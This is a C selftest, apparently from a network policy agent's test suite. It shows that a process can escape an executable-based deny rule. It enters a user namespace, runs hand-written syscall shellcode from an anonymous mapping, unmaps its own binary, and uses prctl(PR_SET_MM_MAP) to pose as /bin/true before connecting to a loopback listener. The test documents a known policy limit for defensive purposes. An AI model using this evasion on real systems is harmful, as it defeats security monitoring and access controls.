// SPDX-License-Identifier: GPL-2.0
/*
 * The exe principal is mm->exe_file, which prctl(PR_SET_MM, PR_SET_MM_MAP)
 * replaces given exe_fd. On 6.1 that takes CAP_CHECKPOINT_RESTORE or
 * CAP_SYS_ADMIN in the caller's own user namespace (not CAP_SYS_RESOURCE
 * in the initial one), and only that the old executable is no longer
 * mapped: so any process that may make a user namespace can run code from
 * an anonymous mapping, unmap its binary and become /bin/true to the
 * rules. docs/policy.md names it a limit next to comm; this test shows it.
 */
#include <sched.h>
#include <sys/mman.h>

#include "kselftest_harness.h"
#include "evasion_test.h"

/*
 * Runs from an anonymous copy, with %rdi = struct spoof: munmap every
 * range, prctl(PR_SET_MM, PR_SET_MM_MAP), then socket + connect, and
 * exit_group with the connect's errno (0: connected), or 100 + the
 * prctl's errno. Nothing of the binary or libc is used: they are gone.
 */
extern const char spoof_code[] __attribute__((visibility("hidden")));
extern const char spoof_code_end[] __attribute__((visibility("hidden")));
asm(".pushsection .text\n"
    "spoof_code:\n"
    "	mov %rdi, %r12\n"
    "	mov 0(%r12), %r13\n"
    "	lea 8(%r12), %r14\n"
    "1:	test %r13, %r13\n"
    "	jz 2f\n"
    "	mov $11, %eax\n"
    "	mov 0(%r14), %rdi\n"
    "	mov 8(%r14), %rsi\n"
    "	syscall\n"
    "	add $16, %r14\n"
    "	dec %r13\n"
    "	jmp 1b\n"
    "2:	mov $157, %eax\n"
    "	mov $35, %edi\n"
    "	mov $14, %esi\n"
    "	mov 264(%r12), %rdx\n"
    "	mov 272(%r12), %r10\n"
    "	xor %r8d, %r8d\n"
    "	syscall\n"
    "	test %rax, %rax\n"
    "	jnz 3f\n"
    "	mov $41, %eax\n"
    "	mov $2, %edi\n"
    "	mov $1, %esi\n"
    "	xor %edx, %edx\n"
    "	syscall\n"
    "	mov %rax, %rdi\n"
    "	mov $42, %eax\n"
    "	mov 280(%r12), %rsi\n"
    "	mov $16, %edx\n"
    "	syscall\n"
    "	neg %rax\n"
    "	mov %rax, %rdi\n"
    "	mov $231, %eax\n"
    "	syscall\n"
    "3:	neg %rax\n"
    "	add $100, %rax\n"
    "	mov %rax, %rdi\n"
    "	mov $231, %eax\n"
    "	syscall\n"
    "spoof_code_end:\n"
    ".popsection\n");

struct spoof {
	uint64_t n;
	uint64_t range[16][2];
	uint64_t map, map_size, sa; /* offsets 264, 272, 280 */
	struct prctl_mm_map mm;
	struct sockaddr_in to;
};

_Static_assert(__builtin_offsetof(struct spoof, map) == 264, "asm offsets");

/* /proc/self/stat fields @first.. (1-based) into @out. */
static int stat_fields(int first, int n, uint64_t *out)
{
	char buf[2048], *p;
	int fd = open("/proc/self/stat", O_RDONLY), i, field;
	ssize_t len;

	if (fd < 0)
		return -1;
	len = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (len <= 0)
		return -1;
	buf[len] = '\0';
	p = strrchr(buf, ')'); /* after comm: field 3 on */
	if (!p)
		return -1;
	p += 2;
	for (field = 3, i = 0; *p && i < n; field++) {
		if (field >= first)
			out[i++] = strtoull(p, NULL, 10);
		p = strchr(p, ' ');
		if (!p)
			return -1;
		p++;
	}
	return i == n ? 0 : -1;
}

/* Every mapping of this binary, page-aligned as /proc/self/maps has it. */
static int exe_ranges(struct spoof *s)
{
	char exe[PATH_MAX], line[PATH_MAX + 128], *path;
	unsigned long lo, hi;
	ssize_t n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
	FILE *f = fopen("/proc/self/maps", "r");

	if (n <= 0 || !f)
		return -1;
	exe[n] = '\0';
	while (fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\n")] = '\0';
		path = strchr(line, '/');
		if (!path || strcmp(path, exe) ||
		    sscanf(line, "%lx-%lx", &lo, &hi) != 2 || s->n == 16)
			continue;
		s->range[s->n][0] = lo;
		s->range[s->n][1] = hi - lo;
		s->n++;
	}
	fclose(f);
	return s->n ? 0 : -1;
}

static int become_true(void *arg)
{
	uint16_t port = *(uint16_t *)arg;
	uint64_t v[7], code[3];
	size_t len = spoof_code_end - spoof_code;
	struct spoof *s;
	char *page;

	/* Root in a user namespace of its own: nothing more. */
	if (unshare(CLONE_NEWUSER))
		return 200;
	page = mmap(NULL, 2 * 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
		    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (page == MAP_FAILED)
		return 201;
	s = (struct spoof *)(page + 4096);
	memcpy(page, spoof_code, len);
	/* startcode endcode startstack; start_data .. env_end. */
	if (stat_fields(26, 3, code) || stat_fields(45, 7, v) || exe_ranges(s))
		return 202;
	s->mm = (struct prctl_mm_map){
		.start_code = code[0],
		.end_code = code[1],
		.start_stack = code[2],
		.start_data = v[0],
		.end_data = v[1],
		.start_brk = v[2],
		.brk = (uint64_t)sbrk(0),
		.arg_start = v[3],
		.arg_end = v[4],
		.env_start = v[5],
		.env_end = v[6],
		.exe_fd = open("/bin/true", O_RDONLY),
	};
	s->to.sin_family = AF_INET;
	s->to.sin_port = htons(port);
	s->to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	s->map = (uint64_t)&s->mm;
	s->map_size = sizeof(s->mm);
	s->sa = (uint64_t)&s->to;
	((void (*)(struct spoof *))page)(s);
	return 203;
}

static int plain_connect(void *arg)
{
	return -try_connect(*(uint16_t *)arg);
}

TEST(exe_can_be_replaced_in_a_user_namespace)
{
	struct ftagent_policy_spec p;
	struct ftagent_rule_spec *r;
	struct ftnl_error err;
	char exe[FTAGENT_RULE_PREFIX_MAX];
	uint16_t port;
	int lfd = listener(&port), rc;
	ssize_t n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);

	ASSERT_GT(n, 0);
	exe[n] = '\0';
	ASSERT_EQ(0, ev_clear_policy());
	ftagent_policy_spec_init(&p);
	r = ev_rule(&p, "not-this-binary", 1u << FTAGENT_OP_CONNECT,
		    FTAGENT_ACTION_DENY);
	r->set |= FTAGENT_RULE_SET_EXE;
	memcpy(r->exe_prefix, exe, n + 1);
	ASSERT_EQ(0, set_policy(&p, &err)) TH_LOG("%s", err.msg);
	ftagent_policy_spec_free(&p);

	EXPECT_EQ(EPERM, ev_in_child(plain_connect, &port));
	rc = ev_in_child(become_true, &port);
	if (rc == 200)
		SKIP(goto out, "no user namespaces here");
	/* The limit: the rule no longer sees this binary, and lets it by. */
	EXPECT_EQ(0, rc) TH_LOG("spoof: %d", rc);
	ev_sleep_ms(50);
	EXPECT_EQ(1, ev_accepts(lfd));
out:
	EXPECT_EQ(0, ev_clear_policy());
	close(lfd);
}

TEST_HARNESS_MAIN
